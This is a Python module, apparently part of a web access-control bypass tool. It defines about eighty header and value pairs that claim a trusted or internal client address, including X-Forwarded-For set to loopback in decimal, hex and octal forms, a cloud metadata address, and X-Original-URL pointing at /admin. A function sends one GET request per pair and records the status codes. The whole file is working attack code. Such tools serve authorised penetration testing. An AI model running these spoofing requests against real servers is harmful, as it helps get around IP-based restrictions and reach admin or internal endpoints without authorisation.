"""Bypass attempts that claim a trusted client address through headers."""

from __future__ import annotations

from .client import HttpClient, RequestError
from .models import BypassConfig, Result

IP_HEADERS = (
    ("X-Forwarded-For", "127.0.0.1"),
    ("X-Forwarded-Host", "127.0.0.1"),
    ("X-Host", "127.0.0.1"),
    ("X-Custom-IP-Authorization", "127.0.0.1"),
    ("X-Originating-IP", "127.0.0.1"),
    ("X-Remote-IP", "127.0.0.1"),
    ("X-Client-IP", "127.0.0.1"),
    ("X-Real-IP", "127.0.0.1"),
    ("X-Forwarded", "127.0.0.1"),
    ("Forwarded-For", "127.0.0.1"),
    ("X-ProxyUser-IP", "127.0.0.1"),
    ("Via", "1.1 127.0.0.1"),
    ("Client-IP", "127.0.0.1"),
    ("True-Client-IP", "127.0.0.1"),
    ("Cluster-Client-IP", "127.0.0.1"),
    ("X-Forwarded-For", "localhost"),
    ("X-Forwarded-For", "10.0.0.1"),
    ("X-Forwarded-For", "192.168.1.1"),
    ("X-Forwarded-For", "127.0.0.1, 127.0.0.2"),
    ("X-Originally-Forwarded-For", "127.0.0.1"),
    ("X-Forwarded-For", "http://127.0.0.1"),
    ("X-Forwarded-For", "127.0.0.1:80"),
    ("X-Originating", "http://127.0.0.1"),
    ("X-WAP-Profile", "127.0.0.1"),
    ("X-Arbitrary", "http://127.0.0.1"),
    ("X-HTTP-DestinationURL", "http://127.0.0.1"),
    ("X-Forwarded-Proto", "http://127.0.0.1"),
    ("Destination", "127.0.0.1"),
    ("X-Client-IP", "http://127.0.0.1"),
    ("X-Host", "http://127.0.0.1"),
    ("X-Forwarded-Host", "http://127.0.0.1"),
    ("X-Forwarded-Port", "4443"),
    ("X-Forwarded-Port", "80"),
    ("X-Forwarded-Port", "8080"),
    ("X-Forwarded-Port", "8443"),
    ("X-ProxyUser-Ip", "127.0.0.1"),
    ("X-Original-URL", "/admin"),
    ("X-Rewrite-URL", "/admin"),
    ("X-Originating-URL", "/admin"),
    ("X-Forwarded-Server", "localhost"),
    ("X-Forwarded-Scheme", "http"),
    ("X-Original-Remote-Addr", "127.0.0.1"),
    ("X-Forwarded-Protocol", "http"),
    ("X-Original-Host", "localhost"),
    ("Proxy-Host", "localhost"),
    ("Request-Uri", "/admin"),
    ("X-Server-IP", "127.0.0.1"),
    ("X-Forwarded-SSL", "off"),
    ("X-Original-URL", "127.0.0.1"),
    ("X-Client-Port", "443"),
    ("X-Backend-Host", "localhost"),
    ("X-Remote-Addr", "127.0.0.1"),
    ("X-Remote-Port", "443"),
    ("X-Host-Override", "localhost"),
    ("X-Forwarded-Server", "localhost:80"),
    ("X-Host-Name", "localhost"),
    ("X-Proxy-URL", "http://127.0.0.1"),
    ("Base-Url", "http://127.0.0.1"),
    ("HTTP-X-Forwarded-For", "127.0.0.1"),
    ("HTTP-Client-IP", "127.0.0.1"),
    ("HTTP-X-Real-IP", "127.0.0.1"),
    ("Proxy-Url", "http://127.0.0.1"),
    ("X-Forward-For", "127.0.0.1"),
    ("X-Forwarded", "127.0.0.1"),
    ("Forwarded-For-Ip", "127.0.0.1"),
    ("X-Forwarded-By", "127.0.0.1"),
    ("X-Forwarded-For-Original", "127.0.0.1"),
    ("X-Forwarded-Host-Original", "localhost"),
    ("X-Pwnage", "127.0.0.1"),
    ("X-Bypass", "127.0.0.1"),
    # Internal addresses, including alternative spellings of loopback.
    ("X-Forwarded-For", "0.0.0.0"),
    ("X-Forwarded-For", "127.0.0.2"),
    ("X-Forwarded-For", "10.0.0.0"),
    ("X-Forwarded-For", "172.16.0.0"),
    ("X-Forwarded-For", "192.168.0.1"),
    ("X-Forwarded-For", "169.254.169.254"),
    ("X-Forwarded-For", "2130706433"),
    ("X-Forwarded-For", "0x7f000001"),
    ("X-Forwarded-For", "017700000001"),
)


def ip_spoofing_headers(base_url: str, client: HttpClient,
                        config: BypassConfig) -> list[Result]:
    """GET the URL once per spoofing header; failed requests are left out."""
    results = []
    for header, value in IP_HEADERS:
        try:
            code = client.status("GET", base_url, {
                "User-Agent": config.user_agent,
                header: value,
            })
        except RequestError:
            continue
        results.append(Result(base_url, code, "GET", "IP Spoofing: " + header))
    return results